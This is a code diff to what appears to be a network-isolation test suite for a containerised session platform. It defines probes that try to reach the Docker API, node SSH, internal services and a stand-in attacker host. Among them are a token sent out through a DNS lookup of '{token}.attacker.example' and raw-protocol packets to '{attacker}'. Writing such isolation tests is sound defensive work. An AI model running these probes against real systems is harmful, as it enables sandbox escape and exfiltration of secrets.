@@ -39,19 +39,18 @@ def _platform() -> list[Case]:
         for host in ("node", "gw", "peer", "control"):
             if service == "squid of the node" and host in ("gw", "node", "control"):
                 continue
-            found.append(case(_family(service, host), f"{service} ({host})", "reach", dial=f"{{{host}}}:{port}", sign="connected"))
+            quiet = "the engine has the port, on the node's own address alone" if (host, port) == ("gw", 2376) else ""
+            found.append(case(_family(service, host), f"{service} ({host})", "reach", dial=f"{{{host}}}:{port}", sign="connected", unshown=quiet))
     for service, port in UDP.items():
         for host in ("node", "control"):
             quiet = "the real service has the port, and answers nothing" if host == "node" and port in (7946, 4789) else ""
             found.append(case(_family(service, host), f"{service} by UDP ({host})", "datagram", to=f"{{{host}}}:{port}", unshown=quiet))
-    for name, text in (("Docker API", "{control}:2376"), ("Docker API of the node", "127.0.0.1:2375"), ("homes service", "{control}:8700"), ("Swarm", "{node}:7946"),
+    for name, text in (("Docker API", "{control}:2376"), ("Docker API of the node", "127.0.0.1:2375"), ("homes service", "{control}:8700"), ("Swarm", "{control}:7946"),
                        ("egress daemon", "{node}:8701"), ("SSH of the node", "{node}:22")):  # fmt: skip
         found.append(case("the platform by the proxy", f"CONNECT to {name}", "stream", dial=PROXY, connect=text, send="{token}\n",
-                          sign="text:SSH-2.0-OpenSSH" if "SSH" in name else "",
-                          unshown="a real engine or SSH has the port and logs no token" if text.endswith("2376") else ""))  # fmt: skip
+                          sign="text:SSH" if "SSH" in name else ""))  # fmt: skip
         found.append(case("the platform by the proxy", f"GET from {name}", "stream", dial=PROXY, send=f"GET http://{text}/{{token}} HTTP/1.1\r\nHost: {text}\r\n\r\n",
-                          sign="text:SSH-2.0-OpenSSH" if "SSH" in name else "",
-                          unshown="a real engine has the port and logs no token" if text.endswith("2376") else ""))  # fmt: skip
+                          sign="text:SSH" if "SSH" in name else ""))  # fmt: skip
     found += [
         case("hub API without token", name, "stream", dial="{control}:8081", send=f"{method} /hub/api/{path} HTTP/1.1\r\nHost: hub\r\nX: {{token}}\r\nContent-Length: 0\r\n\r\n",
              sign="text:\"last_activity\"", unshown=HUB)
@@ -81,8 +80,7 @@ def _sessions() -> list[Case]:
         case(far, "CONNECT to its published port", "stream", dial=PROXY, connect="{peer}:{far_port}", send="{token}\n"),
         case(far, "by a listed name that leads to its node", "rebind", name="r-host-compute2-{token}.wild.example", port=0, way="absolute",
              unshown="the port is only known when the session runs; the case of a rebound name and a service's port shows the same"),
-        case(far, "the resolver of its node", "dns", name="{token}.attacker.example", kind="A", server="{peer}",
-             unshown="without the control nothing answers DNS on another node"),
+        case(far, "the resolver of its node", "dns", name="{token}.attacker.example", kind="A", server="{peer}"),
     ]  # fmt: skip
     return found
 
@@ -126,7 +124,7 @@ def _open() -> list[Case]:
     add("a session of the listed class", "stream", dial="{same}:8888", send="{token}\n")
     add("ICMP", "ip4", to="{attacker}", protocol=1, where="netns")
     add("SCTP", "ip4", to="{attacker}", protocol=132, where="netns")
-    add("GRE", "ip4", to="{attacker}", protocol=47, where="netns")
+    add("another protocol", "ip4", to="{attacker}", protocol=94, where="netns")
     add("IPv6", "ip6", to="{attacker6}", dport=9999, where="netns")
     return found
 
